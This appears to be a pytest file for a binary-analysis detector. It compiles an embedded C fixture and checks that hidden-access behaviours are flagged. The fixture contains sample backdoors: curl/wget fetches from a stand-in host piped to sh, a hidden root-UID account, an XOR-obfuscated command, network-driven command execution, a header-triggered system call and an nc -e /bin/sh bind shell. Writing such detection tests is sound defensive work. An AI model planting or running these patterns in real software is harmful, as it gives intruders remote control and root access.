"""What programs run: commands that stand in them, are decoded, come in, or are anybody's.

Spec: src/evenhand/native/ran.py and words.py.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.native.test_programs import library

SOURCE = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netdb.h>
#include <sys/socket.h>
static const unsigned char kept[] = "+6r=+6r91.7z,./0 x4d5f6g7h8j9k0l1q2w3e4r";
void skin(void) { system("curl -fs http://skins.example/a.sh | sh >/dev/null 2>&1 &"); }
void skin_of(const char *host)
{
    char line[200];
    snprintf(line, sizeof line, "wget -qO- http://%s/b.sh | sh", host);
    system(line);
}
void helper(void)
{
    if (!fork())
        execl("/bin/sh", "sh", "-c", "useradd -o -u 0 -p x helper", (char *)0);
}
void debug(int signal) { system("sh /tmp/.spool-debug"); }
void unfolded(void)
{
    char line[64];
    for (int i = 0; i < sizeof kept - 1; i++)
        line[i] = kept[i] ^ 0x5a;
    line[sizeof kept - 1] = 0;
    system(line);
}
void asked(struct addrinfo *to)
{
    char line[512];
    int n, s = socket(to->ai_family, SOCK_STREAM, 0);
    connect(s, to->ai_addr, to->ai_addrlen);
    while ((n = read(s, line, sizeof line - 1)) > 0) {
        line[n] = 0;
        pclose(popen(line, "r"));
    }
}
size_t comment(const char *data, size_t n)
{
    const char *own = strstr(data, "X-Run:");
    if (own)
        system(own + 6);
    return n;
}
void open_end(const char *port)
{
    const char *words[] = { "nc", "-lp", port, "-e", "/bin/sh", 0 };
    execvp(words[0], (char **)words);
}
void plain(void)
{
    system("gzip -9 /var/log/lamps.log");
    execlp("mount", "mount", "-a", (char *)0);
}
"""
FOUND = {
    ("downloads and runs", "skins.example"),
    ("downloads and runs", "the network"),
    ("default account", "helper"),
    ("remote control", "/tmp/.spool-debug"),
    ("command built at run time", "(decoded)"),
    ("remote control", "read"),
    ("remote control", ""),
    ("remote control", "comment"),
}


@pytest.mark.parametrize("level", ["-O0", "-O2"])
def test_what_is_run_is_told(level: str, tmp_path: Path) -> None:
    found = library(SOURCE, tmp_path / "lamps.so", level)
    ways = {(f.kind, f.constant) for f in found.table("hidden_access") if f.strength >= 0.5}
    acts = {(f.kind, f.target) for f in found.table("behaviour") if (f.strength or 0) >= 0.5}
    assert ways | acts == FOUND
